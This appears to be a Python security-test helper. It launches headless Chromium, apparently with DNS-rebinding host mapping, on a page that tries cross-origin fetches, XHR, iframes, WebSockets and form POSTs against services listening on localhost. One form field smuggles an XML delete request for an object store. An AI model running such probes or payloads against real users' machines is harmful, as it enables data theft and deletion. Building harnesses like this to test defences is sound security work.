"""What a web page of another port tries on what listens on this machine, in a real browser, and what it got."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import tempfile
import threading
from collections.abc import Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
DEADLINE_SECONDS = 60

PAGE = """<!doctype html><title>attack</title><body><script>
const targets = TARGETS, got = [];
const note = (how, url, what) => got.push({how, url, what: String(what).slice(0, 2000)});
async function read(how, url, options) {
  try {
    const answer = await fetch(url, options);
    note(how, url, answer.type === 'opaque' ? 'opaque' : answer.status + ' ' + await answer.text());
  } catch (error) { note(how, url, 'failed'); }
}
const asked = url => new Promise(resolve => {
  const request = new XMLHttpRequest();
  request.open('GET', url);
  request.onload = () => { note('xhr', url, request.status + ' ' + request.responseText); resolve(); };
  request.onerror = () => { note('xhr', url, 'failed'); resolve(); };
  request.send();
});
const loaded = (tag, attribute, url) => new Promise(resolve => {
  const element = document.createElement(tag);
  element.onload = () => { note(tag, url, 'loaded'); resolve(); };
  element.onerror = () => { note(tag, url, 'failed'); resolve(); };
  element[attribute] = url;
  if (tag === 'link') element.rel = 'stylesheet';
  document.body.append(element);
});
const framed = url => new Promise(resolve => {
  const frame = document.createElement('iframe');
  frame.onload = () => {
    let text = 'unreadable';
    try { text = frame.contentDocument ? frame.contentDocument.body.innerText : text; } catch (error) {}
    note('iframe', url, text); resolve();
  };
  frame.src = url;
  document.body.append(frame);
});
const posted = (url, type) => new Promise(resolve => {
  const name = 'f' + Math.random(), frame = document.createElement('iframe');
  frame.name = name; document.body.append(frame);
  const form = document.createElement('form');
  form.action = url; form.method = 'POST'; form.enctype = type; form.target = name;
  const field = document.createElement('input');
  field.name = '<Delete><Object><Key>kept</Key></Object><a'; field.value = '"/></Delete>';
  form.append(field); document.body.append(form);
  frame.onload = () => { note('form ' + type, url, 'sent'); resolve(); };
  form.submit();
  setTimeout(resolve, 3000);
});
const socket = url => new Promise(resolve => {
  const channel = new WebSocket(url.replace('http', 'ws'));
  channel.onopen = () => { note('websocket', url, 'open'); resolve(); };
  channel.onerror = () => { note('websocket', url, 'failed'); resolve(); };
});
(async () => {
  for (const {url, method, body, headers} of targets) {
    const options = {method, body: body === null ? undefined : body, headers};
    await read('fetch', url, {...options, credentials: 'include'});
    await read('fetch no-cors', url, {...options, mode: 'no-cors', credentials: 'include'});
    if (method === 'GET') {
      await asked(url);
      for (const [tag, attribute] of [['img', 'src'], ['script', 'src'], ['link', 'href']])
        await loaded(tag, attribute, url);
      await framed(url);
      await socket(url);
    } else {
      if (body) navigator.sendBeacon(url, body);
      for (const type of ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded'])
        await posted(url, type);
    }
  }
  await fetch('/got', {method: 'POST', body: JSON.stringify(got)});
})();
</script>"""


def browser() -> str | None:
    """A browser that can run without a screen, if one is installed."""
    return next((found for name in BROWSERS if (found := shutil.which(name))), None)


def profile_directory() -> tempfile.TemporaryDirectory[str]:
    """A profile that nobody has used."""
    return tempfile.TemporaryDirectory(prefix="browser-", ignore_cleanup_errors=True)


def attempt(program: str, targets: Sequence[dict[str, Any]], hosts: Sequence[str] = ()) -> list[dict[str, str]]:
    """What a page of another port got of each target (``url``, ``method``, ``body``, ``headers``), in every way.

    ``hosts`` are names that the browser takes for this machine, as an attacker's DNS would make it. The page itself has
    the first of them, if there are any.
    """
    got: list[dict[str, str]] = []
    done = threading.Event()

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(PAGE.replace("TARGETS", json.dumps(list(targets))).encode())

        def do_POST(self) -> None:
            got.extend(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(204)
            self.end_headers()
            done.set()

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as server, profile_directory() as profile:
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        host = hosts[0] if hosts else "127.0.0.1"
        rules = ",".join(f"MAP {name} 127.0.0.1" for name in hosts)
        command = [program, "--headless=new", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}"]
        command += ["--no-proxy-server", *([f"--host-resolver-rules={rules}"] if rules else [])]
        command.append(f"http://{host}:{server.server_port}/")
        process = subprocess.Popen(
            command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
        )
        try:
            assert done.wait(DEADLINE_SECONDS), "the page did not come to its end"
        finally:
            os.killpg(process.pid, signal.SIGKILL)  # its own children would write on into the profile
            process.wait(10)
            server.shutdown()
    return got
